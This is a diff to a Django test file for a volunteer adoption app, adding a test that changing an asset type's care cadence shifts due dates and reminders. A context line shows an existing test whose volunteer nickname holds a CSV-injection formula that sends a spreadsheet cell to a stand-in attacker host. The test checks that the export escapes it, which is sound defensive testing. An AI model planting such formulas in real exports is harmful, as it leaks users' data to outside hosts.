@@ -5,6 +5,7 @@ from __future__ import annotations
 
 import csv
 import io
+import json
 from datetime import date
 
 import pytest
@@ -13,6 +14,7 @@ from django.urls import reverse
 
 from adoptions.models import Adoption, Asset
 from adoptions.services.adoptions import adoption_end, adoption_start
+from adoptions.services.reminders import reminders_send
 from departments.models import Boundary
 from tests.adoptions.conftest import AssetFactory, local
 from tests.factories import BoundaryFactory, StaffMembershipFactory, square
@@ -172,3 +174,27 @@ def test_csv_export_keeps_a_volunteers_formula_from_running(client, superuser, a
     Adoption.objects.update(nickname='=HYPERLINK("http://evil.example/?"&I2,"x")')
     rows = list(csv.DictReader(io.StringIO(export(client, superuser))))
     assert [row["nickname"] for row in rows] == ['\'=HYPERLINK("http://evil.example/?"&I2,"x")']
+
+
+def test_changing_a_cadence_moves_the_current_due_dates(client, superuser, adoption, volunteer):
+    """Adopted March 1st (due April 1st): at three months, due June 1st, in the stored date
+    the lists and the overdue filter read as in the reminders; ended adoptions stay."""
+    released = adoption_start(
+        asset=AssetFactory(asset_type=adoption.asset.asset_type), volunteer=volunteer,
+        accept_terms=True, now=local(2026, 1, 31),
+    )  # fmt: skip
+    adoption_end(adoption=released, reason="released")
+    asset_type = adoption.asset.asset_type
+    client.force_login(superuser)
+    url = reverse("admin:adoptions_assettype_change", args=[asset_type.pk])
+    response = client.post(url, {
+        "name": asset_type.name, "slug": asset_type.slug, "cadence_months": "3",
+        "care_instructions": asset_type.care_instructions, "icon": asset_type.icon,
+        "checklist": json.dumps(asset_type.checklist), "service": "", "active": "on",
+    })  # fmt: skip
+    assert response.status_code == 302
+    adoption.refresh_from_db()
+    released.refresh_from_db()
+    assert adoption.due_on == date(2026, 6, 1) and released.due_on == date(2026, 2, 28)
+    assert reminders_send(now=local(2026, 4, 2)) == {}  # not overdue any more
+    assert reminders_send(now=local(2026, 5, 29)) == {"due_soon": 1}
